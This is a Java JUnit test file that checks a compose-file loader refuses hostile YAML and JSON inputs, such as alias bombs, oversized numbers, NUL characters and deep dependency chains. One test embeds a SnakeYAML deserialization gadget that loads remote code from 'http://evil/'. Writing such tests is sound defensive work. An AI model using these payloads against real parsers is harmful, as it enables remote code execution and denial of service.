package dev.stackd.api.compose;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HostileInputTest {
    @TempDir
    Path tmp;

    @Test
    void aDocumentOverOneMebibyteIsRefused() throws Exception {
        String big = "services:\n  web:\n    image: x\n" + "# padding\n".repeat(110_000);
        assertThat(Load.errors(tmp, big)).extracting(e -> e.message()).containsExactly("the compose document is larger than 1 MiB: refused");
        Path file = Files.writeString(Load.dir(tmp).resolve("compose.yaml"), big);
        assertThat(ComposeLoader.load(LoadRequest.ofFile(file)).errors()).extracting(e -> e.message())
                .containsExactly("the compose file is larger than 1 MiB: refused");
    }

    @Test
    void billionLaughsIsRefused() {
        var sb = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i < 10; i++) {
            sb.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) sb.append(j == 0 ? "" : ",").append("*a").append(i - 1);
            sb.append("]\n");
        }
        sb.append("services:\n  web:\n    image: x\n    labels: *a9\n");
        var errors = Load.errors(tmp, sb.toString());
        assertThat(errors).singleElement().satisfies(e -> assertThat(e.message()).contains("aliases"));
    }

    @Test
    void manyScalarAliasesAreBoundedByTheNodeCount() {
        // scalar aliases are not limited by SnakeYAML; the walk is
        var sb = new StringBuilder("x-a: &s lol\nx-list:\n");
        sb.append("  - [").append("*s,".repeat(20_000)).append("*s]\n");
        for (int i = 0; i < 6; i++) sb.append("  - [").append("*s,".repeat(20_000)).append("*s]\n");
        sb.append("services:\n  web:\n    image: x\n");
        var errors = Load.errors(tmp, sb.toString());
        assertThat(errors).singleElement().satisfies(e -> assertThat(e.message()).contains("more than 100000 nodes"));
    }

    @Test
    void javaTagsAreRefusedBySnakeYaml() {
        var errors = Load.errors(tmp, """
                services:
                  web:
                    image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
                """);
        assertThat(errors).singleElement().satisfies(e -> {
            assertThat(e.message()).isEqualTo("invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
            assertThat(e.line()).isEqualTo(3);
        });
    }

    @Test
    void localTagsAreRefusedWithTheirPath() {
        var errors = Load.errors(tmp, """
                services:
                  web:
                    image: !custom nginx
                    command: !reset []
                    entrypoint: !override [sh]
                """);
        // compose's own tags are the only local ones honoured (a !reset key is dropped, even in a single file)
        assertThat(errors).extracting(e -> e.path() + " " + e.message() + " " + e.line() + ":" + e.column()).containsExactly(
                "services.web.image YAML tag !custom is not supported: only standard tags and compose's !reset and !override are allowed 3:12");
    }

    @Test
    void multipleDocumentsAreRefused() {
        var errors = Load.errors(tmp, "services:\n  a:\n    image: x\n---\nservices:\n  b:\n    image: y\n");
        assertThat(errors).singleElement().satisfies(e -> {
            assertThat(e.message()).startsWith("multiple YAML documents in one file are not supported");
            assertThat(e.line()).isEqualTo(5);
        });
    }

    @Test
    void syntaxErrorsAndDuplicateKeysHaveAPosition() {
        var syntax = Load.errors(tmp, "services:\n  web:\n    image: [x\n");
        assertThat(syntax).singleElement().satisfies(e -> {
            assertThat(e.message()).startsWith("invalid YAML:");
            assertThat(e.line()).isPositive();
        });
        var dup = Load.errors(tmp, "services:\n  web:\n    image: x\n    image: y\n");
        assertThat(dup).extracting(e -> e.path() + " " + e.message() + " " + e.line() + ":" + e.column())
                .containsExactly("services.web.image duplicate key \"image\" 4:5");
    }

    @Test
    void jsonIsReadThroughTheSamePath() {
        var stack = Load.stack(tmp, """
                {"services": {"web": {"image": "nginx", "ports": ["8080:80"], "restart": "no"}}}
                """);
        assertThat(stack.service("web").ports().getFirst().published()).isEqualTo(8080);
        var errors = Load.errors(tmp, "{\"services\": {\"web\": {\"image\": \"nginx\",\n \"restart\": \"often\"}}}", Map.of());
        assertThat(errors).singleElement().satisfies(e -> {
            assertThat(e.path()).isEqualTo("services.web.restart");
            assertThat(e.line()).isEqualTo(2);
            assertThat(e.column()).isEqualTo(13);
        });
    }

    @Test
    void aNumberWithThousandsOfDigitsIsRefusedBeforeItIsParsed() {
        // a 900k-digit mem_limit took 30 s of BigDecimal arithmetic, a duration longer still (a backtracking scan)
        String digits = "9".repeat(20_000);
        var errors = Load.serviceErrors(tmp, """
                image: x
                mem_limit: %1$s
                cpus: %1$s
                stop_grace_period: %1$ss
                scale: %1$s
                ports: ["%1$s:80"]
                """.formatted(digits));
        String shown = "9".repeat(40) + "...";
        assertThat(errors).extracting(e -> e.path() + " " + e.message()).containsExactly(
                "services.web.mem_limit invalid mem_limit \"" + shown + "\": longer than 32 characters",
                "services.web.cpus invalid cpus \"" + shown + "\": longer than 32 characters",
                "services.web.stop_grace_period invalid duration \"" + shown + "\": longer than 32 characters",
                "services.web.scale must be between 0 and 1000, got " + shown,
                "services.web.ports[0] invalid port \"" + shown + "\": published port " + shown + " must be between 1 and 65535");
    }

    @Test
    void aNulCharacterInAnyValueOrKeyIsAnError() {
        // the engine truncates a string at NUL or refuses it: "A=x\0y" would not be the environment the spec shows
        var errors = Load.errors(tmp, """
                services:
                  web:
                    image: "nginx\\0"
                    command: ["sh", "-c", "echo \\0"]
                    environment:
                      A: "x\\0y"
                      B: ${WITH_NUL}
                    labels:
                      "key\\0": v
                """, Map.of("WITH_NUL", "a\0b"));
        assertThat(errors).extracting(e -> e.path() + " " + e.message() + " " + e.line()).containsExactly(
                "services.web.image a NUL character (U+0000) is not allowed in a value 3",
                "services.web.command[2] a NUL character (U+0000) is not allowed in a value 4",
                "services.web.environment.A a NUL character (U+0000) is not allowed in a value 6",
                "services.web.environment.B a NUL character (U+0000) is not allowed in a value 7",
                "services.web.labels a NUL character (U+0000) is not allowed in a key 9");
    }

    @Test
    void aLongDependencyChainIsWalkedWithoutRecursionAndFewCyclesAreReported() {
        // each service depends on the next and on s0: 15,000 nested calls overflowed the stack, and every one of the
        // 15,000 cycles (of up to 15,000 names each) would have been reported
        int n = 15_000;
        var yaml = new StringBuilder("services:\n");
        for (int i = 0; i < n; i++) {
            yaml.append("  s").append(i).append(": {image: x, depends_on: [s0").append(i + 1 < n ? ", s" + (i + 1) : "").append("]}\n");
        }
        var errors = Load.errors(tmp, yaml.toString());
        assertThat(errors).hasSize(DependencyCycles.MAX_REPORTED);
        assertThat(errors.getFirst().message()).isEqualTo("dependency cycle: s0 -> s0");
        assertThat(errors.get(1).message()).isEqualTo("dependency cycle: s0 -> s1 -> s0");
    }

    @Test
    void aKeyLongerThanYamlAllowsForAPlainKeyIsRefused() {
        // an explicit key ("? ...") escapes YAML's 1024-character limit on keys; every path under it copied it
        String key = "k".repeat(5_000);
        var errors = Load.errors(tmp, "services:\n  web:\n    image: x\n    labels:\n      ? " + key + "\n      : v\n");
        assertThat(errors).extracting(e -> e.path() + " " + e.message()).containsExactly(
                "services.web.labels a key of 5000 characters: at most 1024 are allowed");
    }
}
